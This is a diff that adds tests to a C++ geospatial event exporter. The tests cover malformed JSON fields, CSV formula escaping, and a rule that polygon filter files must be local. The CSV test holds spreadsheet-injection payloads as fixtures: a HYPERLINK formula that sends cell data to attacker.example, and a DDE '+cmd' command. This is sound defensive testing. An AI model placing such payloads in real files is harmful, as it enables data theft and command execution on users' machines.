@@ -4,6 +4,7 @@
 
 #include <fstream>
 #include <map>
+#include <nlohmann/json.hpp>
 
 #include "store/export.hpp"
 #include "store/reproject.hpp"
@@ -99,9 +100,13 @@ TEST_CASE("GeoJSON: GDAL reads ours exactly as it reads its own writer's, and og
   }
   const auto a = read_back(ours), b = read_back(theirs), c = read_back(again);
   REQUIRE(a.size() == b.size());
-  for (const auto& [id, row] : b)
-    for (const auto& [field, value] : row)
+  for (const auto& [id_binding, row] : b) {
+    const std::string& id = id_binding;  // clang before 16 cannot capture a structured binding (CHECK's lambda)
+    for (const auto& [field_binding, value] : row) {
+      const std::string& field = field_binding;
       if (field != "fid") CHECK_MESSAGE(a.at(id).at(field) == value, id << "." << field);
+    }
+  }
   CHECK(a == c);
 }
 
@@ -174,4 +179,83 @@ TEST_CASE("KML with a time span per placemark; filters apply to every format") {
   const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
   CHECK(text.find("<TimeSpan>") != std::string::npos);
   CHECK(text.find("2015-11-15T00:00:00Z") != std::string::npos);
+}
+
+TEST_CASE("an events layer without our columns still exports valid GeoJSON") {
+  TempDir tmp;
+  const std::string path = tmp.file("foreign.gpkg");
+  {
+    // Another tool's GeoPackage: an "events" layer of polygons with one column of its own.
+    GDALDriver* gpkg = GetGDALDriverManager()->GetDriverByName("GPKG");
+    DatasetPtr ds(gpkg->Create(path.c_str(), 0, 0, 0, GDT_Unknown, nullptr));
+    OGRSpatialReference srs = wgs84_lon_lat();
+    OGRLayer* layer = ds->CreateLayer("events", &srs, wkbPolygon, nullptr);
+    OGRFieldDefn name("name", OFTString);
+    layer->CreateField(&name);
+    OGRFieldDefn quantities("quantities", OFTString);
+    quantities.SetSubType(OFSTJSON);
+    layer->CreateField(&quantities);
+    OGRFeature f(layer->GetLayerDefn());
+    f.SetField("name", "zone");
+    f.SetField("quantities", "{not json");
+    OGRPolygon poly;
+    OGRLinearRing ring;
+    for (auto [x, y] : {std::pair{30.0, 30.0}, {50.0, 30.0}, {50.0, 40.0}, {30.0, 30.0}}) ring.addPoint(x, y);
+    poly.addRing(&ring);
+    f.SetGeometry(&poly);
+    REQUIRE(layer->CreateFeature(&f) == OGRERR_NONE);
+  }
+  Store store = Store::open(path, Store::Mode::read);
+  const std::string out = tmp.file("out.geojson");
+  CHECK(export_events(store, {}, out, {}) == 1);
+  std::ifstream in(out);
+  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+  CHECK(nlohmann::json::accept(text));
+  CHECK(text.find("\"quantities\":\"{not json\"") != std::string::npos);  // a string, not broken JSON
+  CHECK(text.find("{,") == std::string::npos);
+}
+
+TEST_CASE("CSV: cells a spreadsheet would run as formulas are written as text") {
+  TempDir tmp;
+  Store store = Store::open(tmp.file("f.gpkg"));
+  Event e = test::hand_event("x1", {2015, 11, 15}, 35.9, 39.0, "Armed clash", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", "SY");
+  e.actor2 = "+cmd|' /C calc'!A0";
+  e.location = "-2+3";
+  e.sentence = "@SUM(1+1)";
+  e.country = "\tTab";
+  e.admin1 = "Safe text";
+  store.append_events(std::span<const Event>(&e, 1), "acled");
+  const std::string out = tmp.file("f.csv");
+  ExportOptions o;
+  o.format = ExportFormat::csv;
+  export_events(store, {}, out, o);
+  auto ds = open_vector(out);
+  FeaturePtr f(ds->GetLayer(0)->GetNextFeature());
+  REQUIRE(f);
+  CHECK(std::string(f->GetFieldAsString("actor1")) == "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")");
+  CHECK(std::string(f->GetFieldAsString("actor2")) == "'+cmd|' /C calc'!A0");
+  CHECK(std::string(f->GetFieldAsString("location")) == "'-2+3");
+  CHECK(std::string(f->GetFieldAsString("notes")) == "'@SUM(1+1)");
+  CHECK(std::string(f->GetFieldAsString("country")) == "'\tTab");
+  CHECK(std::string(f->GetFieldAsString("admin1")) == "Safe text");
+  CHECK(std::string(f->GetFieldAsString("latitude")) == "35.9");  // numbers are not text cells
+}
+
+TEST_CASE("--within reads local files only: no URL, no GDAL virtual file system") {
+  HandStore h;
+  for (const char* where : {"/vsicurl/http://127.0.0.1:9/area.geojson", "https://example.org/area.geojson",
+                            "/vsizip//vsicurl/http://127.0.0.1:9/a.zip", "GeoJSON:http://127.0.0.1:9/x"}) {
+    EventFilter f;
+    f.within = where;
+    CHECK_THROWS_WITH_AS(export_events(h.store, f, h.tmp.file("w.geojson"), {}), doctest::Contains("not a local file"),
+                         std::invalid_argument);
+  }
+  // A VRT may point anywhere: not among the drivers a polygon file is read with.
+  const std::string vrt = h.tmp.file("area.vrt");
+  std::ofstream(vrt) << "<OGRVRTDataSource><OGRVRTLayer name=\"a\"><SrcDataSource>/vsicurl/http://127.0.0.1:9/a.geojson"
+                        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>";
+  EventFilter f;
+  f.within = vrt;
+  CHECK_THROWS_WITH_AS(export_events(h.store, f, h.tmp.file("w.geojson"), {}), doctest::Contains("cannot read as a polygon file"),
+                       std::invalid_argument);
 }
